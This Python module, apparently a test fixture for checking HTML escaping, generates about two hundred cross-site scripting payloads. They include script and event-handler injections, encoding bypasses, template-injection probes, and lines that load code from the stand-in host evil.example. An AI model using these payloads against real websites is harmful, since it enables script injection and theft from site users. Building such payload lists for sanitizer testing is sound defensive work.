"""Two hundred texts that become script where a page forgets to escape."""

_CALL = "window.pwned=1"
_HTML = [
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror={}>",
    '<img src="x" onerror="{}">',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    '<iframe src="javascript:{}"></iframe>',
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    '<a href="javascript:{}">x</a>',
    '<a href="java\tscript:{}">x</a>',
    '<form action="javascript:{}"><button>x</button></form>',
    '<button formaction="javascript:{}">x</button>',
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    '<object data="javascript:{}"></object>',
    '<embed src="javascript:{}">',
    '<math><mi xlink:href="javascript:{}">x</mi></math>',
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    '<div hx-get=/jobs hx-trigger=load hx-on::load="{}">',
    '<div data-hx-on:click="{}">',
    "<template><script>{}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[<script>{}</script>]]>",
    "<x onclick={} tabindex=1 autofocus onfocus={}>",
    "<img/src/onerror={}>",
    "<%00script>{}</script>",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "＜script＞{}＜/script＞",
    "{{{{ self.__init__.__globals__ }}}} {}",
    "{{% for x in [1] %}}{}{{% endfor %}}",
    "${{{}}}",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "'; {}; //",
    "\u202e<script>{}</script>",
]
_BREAKS = ["", '">', "'>", "--></title></textarea></style></script>", '" onmouseover="{}" autofocus x="']


def payloads(n=200):
    """Return n of them: each as it is, and after what ends an attribute, a comment, a script."""
    found = [
        (begin.replace("{}", _CALL) + each.replace("{{", "{").replace("}}", "}").replace("{}", _CALL))
        for begin in _BREAKS
        for each in _HTML
    ]
    return found[:n]
